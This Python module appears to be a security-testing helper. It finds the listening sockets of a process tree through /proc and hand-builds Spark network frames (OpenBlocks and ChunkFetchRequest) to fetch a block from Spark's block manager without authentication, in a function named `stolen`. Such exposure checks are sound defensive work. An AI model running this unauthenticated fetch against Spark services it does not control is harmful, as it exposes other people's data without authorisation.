"""Finds the listeners of a run's processes, and requests a block from Spark's block manager as a stranger could.

The frames are those of Spark's `MessageEncoder` and `OpenBlocks`; no code of Spark's authenticates them before they are sent.
"""

import socket
import struct
from collections.abc import Iterator
from contextlib import suppress
from dataclasses import dataclass
from pathlib import Path

_LISTENS = "0A"
_CHUNK_FETCH_REQUEST, _CHUNK_FETCH_SUCCESS, _RPC_REQUEST, _RPC_RESPONSE = 0, 1, 3, 4
_OPEN_BLOCKS = b"\0"


@dataclass(frozen=True)
class Listener:
    """A port on which a process listens; `address` is in the form of /proc/net, in network byte order."""

    address: bytes
    port: int
    command: str

    @property
    def is_loopback(self) -> bool:
        return self.address[-4:-3] == b"\x7f" and self.address[:-4] in (b"", b"\0" * 10 + b"\xff" * 2)


def listeners(root: int) -> list[Listener]:
    """Return all listeners of a process and its descendants."""
    sockets = {inode: pid for pid in _family(root) for inode in _sockets(pid)}
    heard = []
    for table in ("tcp", "tcp6"):
        for line in Path(f"/proc/net/{table}").read_text().splitlines()[1:]:
            fields = line.split()
            if fields[3] == _LISTENS and fields[9] in sockets:
                host, port = fields[1].split(":")
                words = [host[at : at + 8] for at in range(0, len(host), 8)]
                address = b"".join(bytes.fromhex(word)[::-1] for word in words)
                command = Path(f"/proc/{sockets[fields[9]]}/cmdline").read_text().replace("\0", " ")
                heard.append(Listener(address, int(port, 16), command))
    return heard


def stolen(listener: Listener, block: str) -> bytes | None:
    """Return the content of a block, or None if the listener does not send it."""
    host = ".".join(map(str, listener.address[-4:]))
    try:
        with socket.create_connection((host, listener.port), timeout=3) as peer:
            texts = [b"application", b"executor"]
            body = _OPEN_BLOCKS + b"".join(map(_text, texts)) + struct.pack(">i", 1) + _text(block.encode())
            kind, answer = _exchange(peer, _RPC_REQUEST, struct.pack(">qi", 1, len(body)) + body)
            if kind != _RPC_RESPONSE:
                return None
            stream = answer[8 + 4 + 1 :][:8]
            kind, answer = _exchange(peer, _CHUNK_FETCH_REQUEST, stream + struct.pack(">i", 0))
            return answer[8 + 4 :] if kind == _CHUNK_FETCH_SUCCESS else None
    except OSError:
        return None


def _exchange(peer: socket.socket, kind: int, rest: bytes) -> tuple[int, bytes]:
    peer.sendall(struct.pack(">qb", 9 + len(rest), kind) + rest)
    (length,) = struct.unpack(">q", _read(peer, 8))
    if not 9 <= length <= 1 << 24:
        raise OSError("not a frame of Spark's")
    frame = _read(peer, length - 8)
    return frame[0], frame[1:]


def _read(peer: socket.socket, size: int) -> bytes:
    read = b""
    while len(read) < size:
        if not (more := peer.recv(size - len(read))):
            raise OSError("closed")
        read += more
    return read


def _text(value: bytes) -> bytes:
    return struct.pack(">i", len(value)) + value


def _sockets(pid: int) -> Iterator[str]:
    """Return the inodes of a process's sockets; files that a JVM has closed meanwhile are skipped."""
    try:
        descriptors = list(Path(f"/proc/{pid}/fd").iterdir())
    except OSError:  # the process has ended
        return
    for descriptor in descriptors:
        with suppress(OSError):
            target = str(descriptor.readlink())
            if target.startswith("socket:["):
                yield target.removeprefix("socket:[").removesuffix("]")


def _family(root: int) -> list[int]:
    parents: dict[int, list[int]] = {}
    for path in Path("/proc").glob("[0-9]*/stat"):
        try:
            parent = int(path.read_text().rpartition(")")[2].split()[1])
        except OSError:
            continue
        parents.setdefault(parent, []).append(int(path.parent.name))
    family = [root]
    for pid in family:
        family += parents.get(pid, [])
    return family
